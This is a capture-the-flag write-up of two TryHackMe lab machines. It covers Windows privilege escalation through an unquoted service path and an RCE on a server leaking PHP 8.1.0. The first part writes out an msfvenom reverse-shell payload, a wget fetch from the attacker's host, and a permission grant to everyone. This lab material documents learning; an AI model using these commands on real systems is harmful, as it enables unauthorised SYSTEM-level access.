TryHackMe Challenges

Some vulnerable machines on TryHackMe

Written by: Jan Fok

TryHackMe logo


Category: Windows, Privilege Escalation

Vulnerability: Unquoted Service Path

We are provided credentials for the user “Sage” to access a remote machine. We were told to use Remote Desktop Protocol (RDP) to connect to the remote machine. I used xfreerdp and the following command to accomplish this:xfreerdp /u:sage /p:'[password]' /v:[machine ip]


Using the command systeminfo, we can obtain information about the system.

Using the net command, we can check the group memberships and account information of the user “Sage”. We can also use whoami /priv to check the privileges of the account.

From the results of these tests, we can conclude that “Sage” is a low-privileged account.

I was lost to as to what to do, so I read a couple writeups online and learned that from the name and the descriptionof the challenge, there may be an Unquoted Service Path vulnerability on the system.

Next, I ran a service check using Windows Management Instrumentation Command-line (WMIC) using the following command:

wmic service get name,displayname,pathname,startmode | findstr /i /v "c:\windows\\" | findstr /i /v """

The first part of the command will return all the services running on the system. The second part of the command will remove any services which have been put in quotes.

This indeed returns an unquoted service path with the name “Development Service” in path C:\Program Files\ Development Files\Devservice Files\Service.exe.

Next, I used the following command to verify the status of the service.

sc qc "Development Service" -state=all

From the results of the command, we can see that the service is set to auto-start, meaning it will be automatically started on system boot/reboot.After reading about how an unquoted service path works, I learned that the system will check for the executable in the following order:

  1. C:\Program.exe
  2. C:\Program Files\Development.exe
  3. C:\Program Files\Development Files\Devservice.exe
  4. C:\Program Files\Development Files\Devservice Files\Service.exe

We just have to see if we have permissions to write in any of the spaced folders in the filepath. We can check folder permissions using icalcs (Integrity Control Access Control LIsts) via the command-line using the following commands:

icacls "C:\Program Files\Development Files\Devservice Files"

icacls "C:\Program Files\Development Files"

From the results, we can see that we do have write access to the “Development Files” folder. Now, we can proceed with our exploitation.


We will use msfvenom to create a reverse shell executable on our local machine using the following command:

msfvenom -p windows/shell_reverse_tcp LHOST=[LOCAL IP] LPORT=443 -f exe -o Devservice.exe

Next, we start a web server using python to host the file with the following command:

python3 -m http.server

Then, we can use wget in the remote machine to download the file from our local machine to the target using the following command:


wget http://local.machine.ip/8000/Devservice.exe -o "c:\program files\development files\Devservice.exe"

We once again use icacls to give all users permissions to run the script with the following command:icacls "c:\program files\development files\Devservice.exe" \grant everyone:F

Now, we restart the target machine to get windows to auto-run the reverse shell script on boot. When the machine is rebooted, I obtained a reverse shell on my local machine with SYSTEM privileges and was able to obtain the flag from administrator desktop.



Agent T

Category: WebApp, Privilege Escalation


When accessing the provided website with a web browser, I notice that there’s nothing special in teh actual html elements. However, when I inspect the HTTP request and response headers, I note that the PHP version was leaked - PHP 8.1.0.

Googling vulnerabilatiesfor that version of PHP, I found a vulnerability and script which allowed for remote code execution (RCE) readily available on ExploitDB.

Downloading the python script and running it, I managed to obtain a root shellinto the server and obtained the flag in the root directory.